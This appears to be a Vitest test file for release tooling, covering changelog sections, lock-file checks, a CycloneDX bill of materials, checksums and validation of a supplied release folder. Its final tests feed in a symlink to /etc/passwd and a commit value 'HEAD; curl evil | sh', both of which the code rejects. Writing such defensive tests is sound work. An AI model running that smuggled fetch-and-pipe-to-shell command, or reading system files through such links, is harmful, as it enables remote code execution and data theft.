/** @module Papers of a release, each from its parts: the changelog's section, the bill of materials, checksums, what stands against it. */
import { mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it, onTestFinished } from 'vitest';
import { sectionOf } from './changelog.ts';
import { commitOf, readFiles } from './make.ts';
import { lockProblems } from './repository.ts';
import { bomOf } from './sbom.ts';
import { differences, sumsOf } from './sums.ts';

const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text);

describe('the section of a version', () => {
  const changelog =
    '# Changelog\n\n## 0.3.0 (not released)\n\n- c\n\n## 0.2.0 (2026-12-01)\n\n- b, of 0.1.0\n\n## 0.1.0 (2026-11-26)\n';

  it('is what stands below its heading', ({ expect }) => {
    expect(sectionOf(changelog, '0.2.0')).toEqual({
      ok: true,
      value: { day: '2026-12-01', text: '## 0.2.0 (2026-12-01)\n\n- b, of 0.1.0\n' },
    });
  });

  it.for([
    ['0.4.0', 'has no section "## 0.4.0 (YYYY-MM-DD)"'],
    ['0.3.0', 'says 0.3.0 (not released): its heading wants the day'],
    ['0.1.0', 'says nothing of 0.1.0'],
    ['0.2', 'has no section'],
  ])('of %s is refused', ([version, why], { expect }) => {
    const section = sectionOf(changelog, version ?? '');
    expect(section.ok ? '' : section.error).toContain(why);
  });
});

describe('packages', () => {
  const one = { version: '1.0.0', integrity: 'sha512-a' };
  const locked = { '': { version: '0.1.0', dependencies: { zod: '1.0.0' } }, 'node_modules/zod': one };
  const wanted = { version: '0.1.0', dependencies: { zod: '1.0.0' } };

  it('that are what the lock file says are no problem, nor are those of other platforms', ({ expect }) => {
    const other = { ...locked, 'node_modules/windows': { ...one, optional: true } };
    expect(lockProblems(wanted, other, { 'node_modules/zod': one })).toEqual([]);
  });

  it('that aren’t are named', ({ expect }) => {
    const changed = { ...wanted, dependencies: { zod: '2.0.0' } };
    expect(lockProblems(changed, locked, { 'node_modules/zod': { ...one, integrity: 'sha512-b' } })).toEqual([
      'package-lock.json differs from package.json: zod',
      'node_modules/zod is installed as 1.0.0, package-lock.json says 1.0.0',
    ]);
    expect(lockProblems(wanted, locked, {})).toEqual([
      'package-lock.json names node_modules/zod, which is not installed',
    ]);
  });
});

describe('the bill of materials', () => {
  const component = (name: string) => ({
    'bom-ref': `${name}@1.0.0`,
    type: 'library',
    name,
    version: '1.0.0',
    scope: 'optional',
  });
  const npm = {
    bomFormat: 'CycloneDX',
    specVersion: '1.5',
    components: ['zod', 'hono', '@b/c'].map(component),
    dependencies: [{ ref: 'zod@1.0.0', dependsOn: ['hono@1.0.0', '@b/c@1.0.0'] }],
  };
  const locked = { 'node_modules/hono': { version: '1.0.0' }, 'node_modules/zod': { version: '1.0.0' } };
  const of = { name: 'exposure-edge', version: '0.1.0', commit: { id: 'c0'.repeat(20), at: 1_700_000_000 } };

  it('tells what is in a bundle from what builds, in one order, of the commit’s time', ({ expect }) => {
    const bom = bomOf(npm, of, new Set(['node_modules/hono']), locked) as {
      components: unknown;
      [field: string]: unknown;
    };
    expect(bom.components).toMatchObject([
      { name: '@b/c', scope: 'excluded' },
      { name: 'hono', scope: 'required' },
      { name: 'zod', scope: 'excluded' },
    ]);
    expect(bom).toMatchObject({
      metadata: { timestamp: '2023-11-14T22:13:20.000Z' },
      dependencies: [{ ref: 'zod@1.0.0', dependsOn: ['@b/c@1.0.0', 'hono@1.0.0'] }],
    });
    expect(bom['serialNumber']).toMatch(
      /^urn:uuid:[0-9a-f]{8}-[0-9a-f]{4}-8[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/,
    );
    const turned = { ...npm, components: npm.components.toReversed() };
    expect(bomOf(turned, of, new Set(['node_modules/hono']), locked)).toEqual(bom);
  });

  it('leaves nothing out that is in a bundle', ({ expect }) => {
    expect(() => bomOf({ ...npm, components: [] }, of, new Set(['node_modules/zod']), locked)).toThrow('zod@1.0.0');
  });
});

describe('checksums', () => {
  const files = new Map([
    ['b', utf8('b')],
    ['a/x', utf8('')],
  ]);

  it('are what sha256sum writes', ({ expect }) => {
    expect(sumsOf(files)).toBe(
      [
        'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855  a/x\n',
        '3e23e8160039594a33894f6564e1b1348bbd7a0088d42c4acb73eeaed59c009d  b\n',
      ].join(''),
    );
  });

  it('show what somebody’s release has otherwise', ({ expect }) => {
    expect(differences(files, files)).toEqual([]);
    const given = new Map([
      ['b', utf8('B')],
      ['c', utf8('')],
    ]);
    expect(differences(files, given).map(({ file, what }) => `${file} ${what.slice(0, 10)}`)).toEqual([
      'a/x is missing',
      'b is df7e70e',
      'c belongs to',
    ]);
  });
});

describe('a folder that somebody gives', () => {
  it('has files alone: no link that a sum says nothing of', ({ expect }) => {
    const folder = mkdtempSync(join(tmpdir(), 'given-'));
    onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
    writeFileSync(join(folder, 'wrangler.toml'), 'x');
    expect([...readFiles(folder).keys()]).toEqual(['wrangler.toml']);
    symlinkSync('/etc/passwd', join(folder, 'extra.js'));
    expect(() => readFiles(folder)).toThrow('extra.js: a release has files alone');
  });

  it('names a commit, and nothing that a shell would do', ({ expect }) => {
    const of = (commit: string) => commitOf(new Map([['release.json', utf8(JSON.stringify({ commit }))]]));
    expect(of('0'.repeat(40))).toBe('0'.repeat(40));
    expect(() => of('HEAD; curl evil | sh')).toThrow('names no commit');
  });
});
